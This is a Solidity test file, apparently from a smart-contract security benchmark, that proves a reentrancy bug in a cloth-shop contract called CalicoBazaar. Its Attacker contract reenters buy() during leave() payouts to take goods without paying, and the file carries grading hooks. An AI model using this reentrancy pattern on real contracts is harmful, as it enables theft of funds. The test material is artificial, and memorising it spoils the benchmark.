// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CalicoBazaar.sol";

// assay-canary-220380ea-9cef-4e84-bfc0-d32234ec1349

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
}

/// Buys cloth for the credit that is being paid out to it, ten times.
contract Attacker {
    CalicoBazaar internal bazaar;
    bool internal inside;

    constructor(CalicoBazaar bazaar_) {
        bazaar = bazaar_;
    }

    receive() external payable {
        if (inside) try bazaar.buy(0, 40) {} catch {}
    }

    function run() external {
        inside = true;
        for (uint256 i = 0; i < 10; ++i) {
            bazaar.load{value: 2 ether}();
            bazaar.leave();
        }
        inside = false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant NOOR = address(0x9001);
    address internal constant SAMI = address(0x9002);

    CalicoBazaar internal bazaar;
    Attacker internal moth;

    receive() external payable {}

    function setUp() public {
        bazaar = new CalicoBazaar();
        bazaar.unroll("lozenges", 0.05 ether, 1_000);
        bazaar.unroll("stripes", 0.02 ether, 200);
        vm.deal(NOOR, 30 ether);
        vm.prank(NOOR);
        bazaar.load{value: 25 ether}();
        moth = new Attacker(bazaar);
        vm.deal(address(moth), 2 ether);
    }

    function test_Regular() public {
        vm.prank(NOOR);
        bazaar.buy(0, 100);
        require(bazaar.balanceOf(NOOR) == 100 && bazaar.creditOf(NOOR) == 20 ether, "bought");
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.buy, (1, 201))), "not so much on the bolt");
        vm.prank(SAMI);
        require(!_try(abi.encodeCall(bazaar.buy, (1, 1))), "no credit");
        bazaar.fold(1);
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.buy, (1, 1))), "folded");
        vm.prank(NOOR);
        bazaar.leave();
        require(NOOR.balance == 25 ether && bazaar.creditOf(NOOR) == 0, "left");
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.leave, ())), "left already");
        vm.prank(NOOR);
        bazaar.transfer(SAMI, 30);
        vm.prank(SAMI);
        bazaar.cut(10);
        require(bazaar.balanceOf(SAMI) == 20 && bazaar.totalSupply() == 90, "cloth");
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.emptyTill, ())), "not a weaver");
        uint256 before = address(this).balance;
        bazaar.emptyTill();
        require(address(this).balance == before + 5 ether && address(bazaar).balance == 0, "till");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(bazaar).call(data);
    }

    function exploit() public {
        moth.run();
    }

    function test_Exploit() public {
        exploit();
        require(bazaar.balanceOf(address(moth)) >= 400 && address(moth).balance == 2 ether, "cloth was paid for");
    }

    function target() public view returns (address) {
        return address(bazaar);
    }

    function attacker() public view returns (address) {
        return address(moth);
    }

    /// There is ether for what the weavers took in and for all credit.
    function covered() public view returns (bool) {
        uint256 credit = bazaar.creditOf(NOOR) + bazaar.creditOf(SAMI) + bazaar.creditOf(address(moth));
        return address(bazaar).balance >= bazaar.till() + credit;
    }
}
